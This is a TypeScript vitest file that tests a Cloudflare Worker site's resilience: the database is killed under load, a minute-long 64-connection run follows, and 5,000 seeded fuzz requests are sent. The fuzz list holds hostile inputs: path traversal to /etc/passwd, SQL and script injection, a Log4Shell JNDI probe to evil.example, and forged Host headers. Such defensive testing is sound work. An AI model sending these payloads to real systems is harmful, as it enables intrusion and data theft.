/**
 * Resilience of the built Worker in workerd (Miniflare, over HTTP) with the local libSQL server in a
 * thread of its own: the database killed under load and brought back, a minute at 64 connections,
 * and 5,000 generated hostile requests. Every answer is checked; nothing here is timed.
 */
import { Agent } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type HranaThread, startHranaThread } from '../dev/hrana-thread.ts';
import { freePort, httpSend, runLoad } from '../dev/load.ts';
import { generatedDocuments } from '../pipeline/generated-documents.ts';
import { MET, POSTBUS, SITE } from './support/addresses.ts';
import { startDatabase, startWorker, type TestDatabase, type TestWorker } from './support/worker.ts';

let db: TestDatabase;
let dbPort: number;
let thread: HranaThread;
let worker: TestWorker;

beforeAll(async () => {
  db = await startDatabase(generatedDocuments(30));
  await db.server.close();
  dbPort = await freePort();
  thread = await startHranaThread({ file: db.file, port: dbPort });
  worker = await startWorker({ libsqlUrl: thread.url, siteUrl: SITE });
});
afterAll(async () => {
  await worker?.dispose();
  await thread?.close();
  await db?.close();
});

const agent = new Agent({ keepAlive: true, maxSockets: 32 });

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** One raw HTTP request (any method, path and headers), with the whole answer. */
async function send(
  method: string,
  path: string,
  headers: Record<string, string> = {},
  body?: string,
  via: Agent | false = agent,
): Promise<Answer> {
  const answer = await httpSend(worker.url, { method, path, headers, body, agent: via });
  return { status: answer.status, headers: answer.headers, body: answer.body.toString('utf8') };
}

/** Runs `task` for every item with at most `width` at a time. */
async function pool<T, R>(items: T[], width: number, task: (item: T) => Promise<R>): Promise<R[]> {
  const out: R[] = new Array(items.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: width }, async () => {
      for (let i = next++; i < items.length; i = next++) out[i] = await task(items[i] as T);
    }),
  );
  return out;
}

const STACK_TRACE =
  /(TypeError|ReferenceError|SyntaxError|RangeError|DrizzleQueryError|LibsqlError|SQLITE_|\bat .+\.(js|ts):\d+)/;

describe('the database killed during load', () => {
  it('keeps cached pages at 200, answers uncached ones 503 + Retry-After, never 500, and recovers', async () => {
    const cached = ['/', MET, POSTBUS, '/api/articles', '/participanten', '/feed.xml'];
    for (const path of cached) {
      await send('GET', path);
      expect((await send('GET', path)).headers['x-cache'], path).toBe('HIT');
    }

    type Sample = { at: number; cached: boolean; status: number; retryAfter: boolean; stack: boolean };
    const samples: Sample[] = [];
    const start = Date.now();
    let stop = false;
    let unique = 0;
    const load = Promise.all(
      Array.from({ length: 16 }, async (_, lane) => {
        for (let n = 0; !stop; n++) {
          const isCached = (n + lane) % 2 === 0;
          const path = isCached ? (cached[n % cached.length] as string) : `/zoeken?q=woord${unique++}`;
          const at = Date.now() - start;
          const answer = await send('GET', path);
          samples.push({
            at,
            cached: isCached,
            status: answer.status,
            retryAfter: /^\d+$/.test(String(answer.headers['retry-after'] ?? '')),
            stack: STACK_TRACE.test(answer.body),
          });
        }
      }),
    );

    await new Promise((resolve) => setTimeout(resolve, 1000));
    const killedAt = Date.now() - start;
    await thread.close();
    await new Promise((resolve) => setTimeout(resolve, 2000));
    const restartedAt = Date.now() - start;
    thread = await startHranaThread({ file: db.file, port: dbPort });
    await new Promise((resolve) => setTimeout(resolve, 2500));
    stop = true;
    await load;

    expect(samples.filter((s) => s.status === 500 || s.stack)).toEqual([]);
    expect(samples.filter((s) => s.cached && s.status !== 200)).toEqual([]);
    const down = samples.filter((s) => !s.cached && s.at > killedAt + 200 && s.at < restartedAt);
    expect(down.length).toBeGreaterThan(10);
    expect(down.filter((s) => s.status !== 503 || !s.retryAfter)).toEqual([]);
    const back = samples.filter((s) => !s.cached && s.at > restartedAt + 1000);
    expect(back.length).toBeGreaterThan(10);
    expect(back.filter((s) => s.status !== 200)).toEqual([]);
    const before = samples.filter((s) => !s.cached && s.at < killedAt - 500);
    expect(before.filter((s) => s.status !== 200)).toEqual([]);
  });
});

describe('a minute at 64 connections', () => {
  it('answers a mix of pages, API and search with 0 failures and only 200s', {
    timeout: 120_000,
  }, async () => {
    const result = await runLoad(worker.url, {
      connections: 64,
      durationS: 60,
      paths: [
        '/',
        MET,
        '/banenafspraak/nieuws',
        '/banenafspraak/nieuws?pagina=2',
        POSTBUS,
        '/api/articles',
        '/api/articles/met-elkaar-voor-125000-banen',
        '/zoeken?q=banen',
        '/api/search?q=werkgevers',
        '/participanten',
      ],
    });
    expect(result.errors).toBe(0);
    expect(result.responses).toBeGreaterThan(1000);
    // Every status line seen was 200 (a response cut off by the end of the run may count here only).
    expect(Object.keys(result.statuses)).toEqual(['200']);
    expect(result.statuses[200]).toBeGreaterThanOrEqual(result.responses);
  });
});

/** A small deterministic generator, so that a failure can be replayed. */
function random(seed: number) {
  let state = seed;
  return () => {
    state = (state * 1664525 + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

function hostileRequests(count: number) {
  const next = random(20261123);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
  const junk = () =>
    pick([
      '%00',
      '%',
      '%zz',
      '..%2F..%2Fetc%2Fpasswd',
      '../../etc/passwd',
      '%C0%AE%C0%AE%2F',
      "' OR 1=1--",
      '"NEAR(a b)*^',
      '<script>alert(1)</script>',
      '%E2%80%AE%F0%9F%92%A9',
      'caf\u00e9',
      'x'.repeat(5000),
      '-1',
      '0',
      '99999999999999999999',
      '1e3',
      '0x10',
      '%2F%2Fevil.example',
      '{{7*7}}',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent as it is
      '${jndi:ldap://evil.example}',
    ]);
  const paths = [
    () => `/${junk()}`,
    () => `/banenafspraak/nieuws/${junk()}`,
    () => `/banenafspraak/nieuws/2019-02-12/${junk()}`,
    () => `/banenafspraak/nieuws?pagina=${junk()}`,
    () => `/api/articles?page=${junk()}&limit=${junk()}`,
    () => `/api/articles/${junk()}`,
    () => `/api/search?q=${junk()}`,
    () => `/zoeken?q=${junk()}`,
    () => `/deel/${junk()}/${junk()}`,
    () => `/deel/met-elkaar-voor-125000-banen/mastodon?instance=${junk()}`,
    () => `/og/${junk()}.png`,
    () => `/oembed?url=${junk()}&format=${junk()}`,
    () => `/admin/purge?${junk()}`,
    () => `/?${Array.from({ length: 300 }, (_, i) => `p${i}=${i}`).join('&')}`,
    () => `/${'a/'.repeat(2000)}`,
    () => `${MET}?utm_source=${junk()}&fbclid=${junk()}`,
  ];
  const methods = [
    'GET',
    'GET',
    'GET',
    'HEAD',
    'POST',
    'PUT',
    'DELETE',
    'PATCH',
    'OPTIONS',
    'PROPFIND',
    'TRACE',
  ];
  const headerSets: (() => Record<string, string>)[] = [
    () => ({}),
    () => ({ Host: 'evil.example', 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'gopher' }),
    () => ({ 'X-Huge': 'h'.repeat(16_000) }),
    () => Object.fromEntries(Array.from({ length: 80 }, (_, i) => [`X-Many-${i}`, junk().slice(0, 100)])),
    () => ({ 'If-None-Match': `"${'x'.repeat(4000)}"`, 'If-Modified-Since': junk().slice(0, 100) }),
    () => ({ Range: `bytes=${junk().slice(0, 50)}` }),
    () => ({ Authorization: `Bearer ${junk().slice(0, 200)}`, 'Content-Type': 'application/json' }),
    () => ({
      'User-Agent': junk().slice(0, 500),
      Accept: junk().slice(0, 100),
      Cookie: junk().slice(0, 500),
    }),
    () => ({ 'Accept-Encoding': 'gzip, deflate, br, zstd, *' }),
  ];
  return Array.from({ length: count }, () => {
    const method = pick(methods);
    const headers = pick(headerSets)();
    const body =
      method === 'POST' || method === 'PUT' || method === 'PATCH'
        ? pick(['{', '{"tags":[1]}', junk()])
        : undefined;
    // Node refuses to send characters outside Latin-1 in a path; the rest goes out as it is.
    const path = pick(paths)().replace(/[^\u0021-\u00ff]/g, (ch) => encodeURIComponent(ch));
    return { method, path, headers, body };
  });
}

describe('5,000 generated hostile requests', () => {
  it('never get a 500 or a stack trace, and always the security headers', { timeout: 180_000 }, async () => {
    const requests = hostileRequests(5000);
    const answers = await pool(requests, 32, async (req) => ({
      req,
      answer: await send(req.method, req.path, req.headers, req.body, false).catch(
        (error: Error): Answer => ({ status: 0, headers: {}, body: `${error.message}` }),
      ),
    }));
    const describe = ({ req, answer }: (typeof answers)[number]) =>
      `${answer.status} ${req.method} ${req.path.slice(0, 120)} ${JSON.stringify(req.headers).slice(0, 120)}`;
    expect(answers.filter(({ answer }) => answer.status >= 500).map(describe)).toEqual([]);
    expect(answers.filter(({ answer }) => STACK_TRACE.test(answer.body)).map(describe)).toEqual([]);
    expect(
      answers
        .filter(
          ({ answer }) =>
            !answer.headers['content-security-policy'] || !answer.headers['x-content-type-options'],
        )
        .map(describe),
    ).toEqual([]);
    // Forged hosts never reach a page: every absolute URL is SITE_URL's.
    const forgedLink = /(href|src|content|action)="(https?:)?\/\/evil\.example/;
    expect(answers.filter(({ answer }) => forgedLink.test(answer.body)).map(describe)).toEqual([]);
  });
});
